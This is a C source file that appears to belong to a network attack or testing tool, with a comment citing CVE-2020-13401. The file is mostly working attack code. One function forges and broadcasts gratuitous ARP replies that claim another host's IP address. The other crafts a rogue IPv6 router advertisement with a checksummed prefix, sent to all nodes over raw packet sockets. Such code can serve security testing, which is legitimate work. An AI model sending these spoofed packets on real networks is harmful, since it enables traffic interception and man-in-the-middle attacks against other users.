/* What no honest neighbour says: another's address, and a router that there isn't. CVE-2020-13401 */
#include "attack.h"
#include "checksum.h"

#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ether.h>
#include <netinet/icmp6.h>
#include <netinet/if_ether.h>
#include <netinet/ip6.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static int say(const char *what, const char *interface, uint16_t protocol, const char *mac,
	       const void *packet, size_t size)
{
	struct sockaddr_ll link = {
		.sll_family = AF_PACKET,
		.sll_protocol = htons(protocol),
		.sll_ifindex = (int)if_nametoindex(interface),
		.sll_halen = ETH_ALEN,
	};
	struct ether_addr to;
	ether_aton_r(mac, &to);
	memcpy(link.sll_addr, &to, ETH_ALEN);
	int fd = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return print_result("socket", -1);
	long sent = sendto(fd, packet, size, 0, (struct sockaddr *)&link, sizeof(link));
	close(fd);
	return print_result(what, sent);
}

int attack_arp(char **words)
{
	struct ether_addr mac;
	struct ether_arp arp = {
		.arp_hrd = htons(ARPHRD_ETHER),
		.arp_pro = htons(ETHERTYPE_IP),
		.arp_hln = ETH_ALEN,
		.arp_pln = 4,
		.arp_op = htons(ARPOP_REPLY),
	};
	if (!ether_aton_r(words[2], &mac) || inet_pton(AF_INET, words[1], arp.arp_spa) != 1)
		return 2;
	memcpy(arp.arp_sha, &mac, ETH_ALEN);
	memcpy(arp.arp_tpa, arp.arp_spa, sizeof(arp.arp_tpa));
	memset(arp.arp_tha, 0xff, ETH_ALEN);
	return say("arp", words[0], ETHERTYPE_ARP, "ff:ff:ff:ff:ff:ff", &arp, sizeof(arp));
}

/* RFC 4861: a router for everything, and a prefix to make an address of. */
int attack_advertise(char **words)
{
	struct {
		struct ip6_hdr ip;
		struct nd_router_advert router;
		struct nd_opt_prefix_info prefix;
	} packet = {
		.ip = { .ip6_nxt = IPPROTO_ICMPV6, .ip6_hlim = 255 },
		.router = { .nd_ra_type = ND_ROUTER_ADVERT, .nd_ra_router_lifetime = htons(1800) },
		.prefix = {
			.nd_opt_pi_type = ND_OPT_PREFIX_INFORMATION,
			.nd_opt_pi_len = 4,
			.nd_opt_pi_prefix_len = 64,
			.nd_opt_pi_flags_reserved = ND_OPT_PI_FLAG_ONLINK | ND_OPT_PI_FLAG_AUTO,
			.nd_opt_pi_valid_time = htonl(3600),
			.nd_opt_pi_preferred_time = htonl(3600),
		},
	};
	uint16_t size = sizeof(packet) - sizeof(packet.ip);
	packet.ip.ip6_flow = htonl(6U << 28);
	packet.ip.ip6_plen = htons(size);
	inet_pton(AF_INET6, "fe80::bad", &packet.ip.ip6_src);
	inet_pton(AF_INET6, "ff02::1", &packet.ip.ip6_dst);
	inet_pton(AF_INET6, "2001:db8:bad::", &packet.prefix.nd_opt_pi_prefix);
	uint32_t sum = add_up((uint32_t)size + IPPROTO_ICMPV6, &packet.ip.ip6_src,
			      2 * sizeof(packet.ip.ip6_src));
	packet.router.nd_ra_cksum = checksum(add_up(sum, &packet.router, size));
	return say("advertise", words[0], ETHERTYPE_IPV6, "33:33:00:00:00:01", &packet,
		   sizeof(packet));
}
